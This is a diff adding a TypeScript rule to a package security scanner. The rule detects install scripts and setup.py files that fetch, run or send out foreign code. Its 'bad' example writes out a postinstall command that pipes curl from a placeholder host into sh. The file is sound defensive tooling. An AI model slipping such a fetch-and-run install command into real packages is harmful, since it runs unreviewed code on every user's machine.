@@ -1,0 +1,163 @@
+import type { CallEvent } from '../../engine/machine.js';
+import type { InstallScript, Manifest } from '../../packages/package-facts.js';
+import type { Severity } from '../../report/report.js';
+import { lineIn } from '../places.js';
+import type { Checks, Found, PackageView, Report, Rule } from '../rule.js';
+import { conductOf, filesRunBy, scriptsRunBy } from './command-line.js';
+import { deedOf, filesRunning, type Deed } from './start-up-code.js';
+
+const folderOf = (path: string): string => path.slice(0, path.lastIndexOf('/') + 1);
+
+/** A path of the package: without `.` and `..`. */
+function resolved(folder: string, file: string): string {
+  const parts: string[] = [];
+  for (const part of `${folder}${file}`.split('/')) {
+    if (part === '..') parts.pop();
+    else if (part !== '.' && part !== '') parts.push(part);
+  }
+  return parts.join('/');
+}
+
+const ENDINGS = ['', '.js', '.cjs', '.mjs', '.ts', '.py', '/index.js'];
+
+/** The commands of a script, those of the scripts that it calls included. */
+function commandsOf({ command }: InstallScript, { scripts }: Manifest, depth = 3): readonly string[] {
+  if (depth === 0) return [command];
+  const inner = scriptsRunBy(command).flatMap((name) => scripts.get(name) ?? []);
+  return [command, ...inner.flatMap((each) => commandsOf({ command: each } as InstallScript, { scripts } as Manifest, depth - 1))]; // prettier-ignore
+}
+
+/** What a file that runs at installation does: the worst of it. */
+function conductOfCode(
+  deeds: readonly Deed[],
+  own: ReadonlySet<string>,
+): { deed: Deed; told: string; severity: Severity } | undefined {
+  // prettier-ignore
+  const fetches = deeds.filter(({ what }) => what === 'fetches');
+  const codes = deeds.filter(({ what }) => what === 'runs code');
+  const programs = deeds.filter(({ what }) => what === 'runs a program');
+  for (const deed of programs) {
+    const conduct = deed.command === undefined ? undefined : conductOf(deed.command, own);
+    if (conduct?.severe) return { deed, told: conduct.kind, severity: 'critical' };
+  }
+  const remote = [...codes, ...programs].find(({ foreign }) => foreign) ?? (fetches.length > 0 ? codes[0] : undefined); // prettier-ignore
+  if (remote) return { deed: remote, told: 'runs what it fetches', severity: 'critical' };
+  const sent = fetches.find(({ foreign }) => foreign);
+  const looks = deeds.some(({ what }) => what === 'reads who is there');
+  if (sent && looks) return { deed: sent, told: 'sends data of the machine away', severity: 'critical' };
+  const isChecked = deeds.some(({ what }) => what === 'checks a digest');
+  const [first] = fetches;
+  if (first && !isChecked) return { deed: first, told: 'fetches from the network', severity: 'medium' };
+  const fetching = programs.find(
+    ({ command }) => command !== undefined && conductOf(command, own) !== undefined,
+  );
+  return fetching && { deed: fetching, told: 'fetches from the network', severity: 'medium' };
+}
+
+/** Remembers what is done by files that may turn out to run at installation. */
+class Installation {
+  private readonly deeds = new Map<string, Deed[]>();
+
+  readonly hear = (event: CallEvent): void => {
+    const deed = deedOf(event);
+    if (!deed) return;
+    for (const file of filesRunning(event.frame)) {
+      const known = this.deeds.get(file) ?? [];
+      if (known.length < 200) known.push(deed);
+      this.deeds.set(file, known);
+    }
+  };
+
+  check(view: PackageView, report: Report): void {
+    for (const manifest of view.facts.manifests) {
+      const own = new Set(manifest.dependencies.map(({ name }) => name));
+      for (const script of manifest.installScripts) this.checkScript(script, manifest, own, view, report);
+    }
+    for (const path of view.paths)
+      if (/(?:^|\/)setup\.py$/u.test(path)) this.checkFile(path, 'setup.py', new Set(), view, report);
+  }
+
+  private checkScript(
+    script: InstallScript,
+    manifest: Manifest,
+    own: ReadonlySet<string>,
+    view: PackageView,
+    report: Report,
+  ): void {
+    for (const command of commandsOf(script, manifest)) {
+      const conduct = conductOf(command, own);
+      // `prepare` runs where the package is built, and only there.
+      if (conduct && (script.name !== 'prepare' || conduct.severe))
+        report({
+          ...lineIn(script.manifest, script.line),
+          ...tellOf(`The script \`${script.name}\``, conduct.kind, conduct.severe ? 'critical' : 'medium'),
+          sink: `${script.name}: ${conduct.kind}`,
+        });
+      if (script.name === 'prepare') continue;
+      for (const file of filesRunBy(command)) {
+        const path = ENDINGS.map((ending) => resolved(folderOf(script.manifest), file + ending)).find(
+          (each) => view.paths.includes(each),
+        );
+        if (path !== undefined) this.checkFile(path, `\`${script.name}\``, own, view, report);
+      }
+    }
+  }
+
+  private checkFile(
+    path: string,
+    by: string,
+    own: ReadonlySet<string>,
+    view: PackageView,
+    report: Report,
+  ): void {
+    const what =
+      by === 'setup.py' ? '`setup.py`, which runs at installation,' : `The file, which ${by} runs,`;
+    if (/\.(?:ba)?sh$/u.test(path) || !/\.(?:[mc]?[jt]s|py)$/u.test(path)) {
+      for (const [place, line] of (view.text(path) ?? '').split('\n').entries()) {
+        const conduct = line.trimStart().startsWith('#') ? undefined : conductOf(line, own);
+        if (conduct) report({ ...lineIn(path, place + 1), ...tellOf(what, conduct.kind, conduct.severe ? 'critical' : 'medium'), sink: conduct.kind }); // prettier-ignore
+      }
+      return;
+    }
+    const found = conductOfCode(this.deeds.get(path) ?? [], own);
+    if (!found) return;
+    const { deed, told, severity } = found;
+    report({ at: deed.frame, lines: deed.lines, ...tellOf(what, told, severity), sink: told });
+  }
+}
+
+const tellOf = (who: string, told: string, severity: Severity): Pick<Found, 'description' | 'severity' | 'confidence'> => ({
+  description: `${who} ${told} while the package is installed: its publisher, or whoever answers there, runs code on every machine.`,
+  severity,
+  confidence: severity === 'critical' ? 'high' : 'medium',
+}); // prettier-ignore
+
+function remembering(): Checks {
+  const installation = new Installation();
+  return { calls: { '*': installation.hear }, package: (view, report) => installation.check(view, report) };
+}
+
+/** Scripts at installation that do more than build. */
+export const installScript: Rule = {
+  id: 'MCP-L005',
+  class: 'L',
+  title: 'Installation that fetches or runs foreign code',
+  severity: 'critical',
+  confidence: 'high',
+  cwe: 829,
+  cvss: 'AV:N/AC:L/PR:N/UI:R/S:C/C:H/I:H/A:H',
+  what: "npm's `preinstall`, `install` or `postinstall`, a file that they run, or `setup.py` fetches something, runs what it has fetched or decoded, or sends data of the machine away.",
+  why: 'Installation runs before anybody has looked at the package, with all rights of the user or of the build machine. What is fetched there is in no archive that was reviewed, and may be another thing tomorrow.',
+  example: {
+    language: 'json',
+    bad: '"postinstall": "curl -fsSL https://get.example.net/setup.sh | sh"',
+    good: '"prepack": "tsc"',
+  },
+  fix: 'Ship what the package needs inside it. Where a binary must be fetched, do it when the user asks for it, from a fixed version, and compare its digest before it is run.',
+  notCounted: [
+    '`node scripts/build.js`, `node-gyp rebuild`, `husky`, `patch-package` and what else only builds',
+    'downloads whose digest is compared',
+    '`setup.py` that reads files of its own, or asks git for the version',
+  ],
+  remembering,
+};
